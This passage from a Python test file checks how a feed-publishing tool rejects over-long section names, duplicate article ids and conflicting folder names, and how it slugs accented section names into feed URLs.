        assert problem is None or warning == f"content/{STORY}: image: {problem}; left out"
    assert sorted(publication.titles("news")) == ["A story", "Another story"]
    assert "attachments" not in json.dumps(publication.json("news"))
    assert not (publication.feeds / "media").exists()


@pytest.mark.parametrize("category", ["word " * 70, "a/" * 700 + "b", "日" * 100])
def test_a_category_longer_than_any_folder_stops_no_other(publication: Publication, category: str) -> None:
    publication.configure(CONFIG + "articles: {section: category}\n")
    publication.article("a.md", title="Good")
    publication.article("b.md", title="Bad", categories=f"['{category}']")
    [said_of_b] = said(publication.build())
    assert said_of_b.startswith("content/b.md: section: found a name of ")
    assert publication.titles() == ["Good"]


def test_a_folder_whose_slug_is_longer_than_any_folder_stops_no_other(publication: Publication) -> None:
    # Each of these is three characters in a slug.
    publication.article("½" * 100 + "/a.md", title="Bad")
    publication.article(title="Good")
    [problem] = said(publication.build())
    assert "found 300 bytes, expected a section's name of at most 200 bytes" in problem
    assert publication.titles() == ["Good"]


# --- two things with one name ---


def test_two_articles_with_one_id(publication: Publication) -> None:
    publication.article("news/a.md", title="First", id="tag:example.org,2026:one")
    publication.article("sport/b.md", title="Second", id="tag:example.org,2026:one")
    for _ in range(2):
        report = publication.build()
        assert said(report) == [
            "content/sport/b.md: id: found tag:example.org,2026:one, which news/a.md has too, "
            "expected an id of its own (another `slug` or `date`, or an `id`)"
        ]
        assert publication.titles() == ["First"]


def test_the_id_stays_with_the_article_that_had_it(publication: Publication) -> None:
    publication.article("news/b.md", title="First", id="tag:example.org,2026:one")
    publication.build()
    publication.article("news/a.md", title="Second", id="tag:example.org,2026:one")
    [error] = publication.build().rejected
    assert error.path == "content/news/a.md"
    assert publication.titles() == ["First"]


def test_an_article_that_takes_anothers_id_keeps_its_last_good_version(publication: Publication) -> None:
    publication.article("news/other.md", title="Another story", id="tag:example.org,2026:one")
    publication.article()
    publication.build()
    before = snapshot(publication)
    publication.article(title="A new story", id="tag:example.org,2026:one")
    [error] = publication.build().rejected
    assert error.path == f"content/{STORY}"
    assert snapshot(publication) == before


def test_two_files_that_would_get_one_id(publication: Publication) -> None:
    publication.article("news/a.html", title="First")
    publication.article("news/a.md", title="Second")
    publication.article("news/b.md", title="Third")
    report = publication.build()
    assert said(report) == [
        "content/news/a.md: id: found tag:example.org,2026-11-20:news/a, which news/a.html has too, "
        "expected an id of its own (another `slug` or `date`, or an `id`)"
    ]
    assert sorted(publication.titles()) == ["First", "Third"]


def test_a_section_name_with_blanks_and_accents(publication: Publication) -> None:
    publication.article("En español/América Latina/nota.md")
    report = publication.build()
    assert not report.rejected
    feed = publication.json("en-espanol/america-latina")
    assert feed["title"] == "América Latina – The Test Post"
    assert feed["feed_url"] == "https://feeds.example.org/en-espanol/america-latina/feed.json"
    assert feed["items"][0]["url"] == "https://example.org/en-espanol/america-latina/nota/"


@pytest.mark.parametrize("name", ["!!!", "🎈", "- -"])
def test_a_section_name_without_letters(publication: Publication, name: str) -> None:
    publication.article()
    publication.article(f"{name}/story.md", title="Lost")
    assert said(publication.build()) == [
        f"content/{name}: found none, expected a folder name with letters or digits"
    ]
    assert publication.titles() == ["A story"]


def test_two_folders_that_become_one_section(publication: Publication) -> None:
    publication.article("U.S./a.md", title="First")
    publication.article("us/b.md", title="Second")
    assert said(publication.build()) == [
        "content/U.S.: found the section us, which us/ is already, expected one folder per section"
    ]
    assert publication.titles("us") == ["Second"]


def test_a_second_folder_for_a_section_may_have_pictures_alone(publication: Publication) -> None:
    publication.article("us/a.md", title="First")
    publication.write("U.S./maps/a.png", b"")
    assert said(publication.build()) == []


@pytest.mark.parametrize("new", ["U.S.", "US ", "Us"])
def test_a_folder_called_like_its_section_is_the_section(publication: Publication, new: str) -> None:
    publication.article("us/a.md", title="First")
    publication.build()
    publication.article(f"{new}/b.md", title="Second")
    publication.article("us/c.md", title="Third")
    [error] = publication.build().rejected
    assert error.path == f"content/{new}"
    assert sorted(publication.titles("us")) == ["First", "Third"]


def test_a_second_folder_for_a_section_takes_nothing_from_the_first(publication: Publication) -> None:
    publication.article("us/a.md", title="First")
    publication.build()
    publication.article("U.S./b.md", title="Second")
    [error] = publication.build().rejected
    assert "one folder per section" in error.expected
    assert "First" in publication.titles("us")
